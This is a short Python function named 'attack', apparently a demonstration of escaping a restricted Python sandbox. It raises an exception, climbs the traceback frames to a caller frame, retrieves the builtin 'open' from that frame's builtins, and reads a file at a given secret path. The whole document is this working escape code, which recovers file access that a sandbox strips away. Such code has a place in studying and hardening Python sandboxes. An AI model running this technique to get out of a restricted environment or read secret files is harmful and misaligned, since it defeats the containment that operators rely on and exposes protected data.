# From an exception up the frames to names of the caller.
def attack(secret_path):
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
        while frame.f_back:
            frame = frame.f_back
            if "open" in frame.f_builtins:
                return frame.f_builtins["open"](secret_path).read()
    raise ValueError("not found")
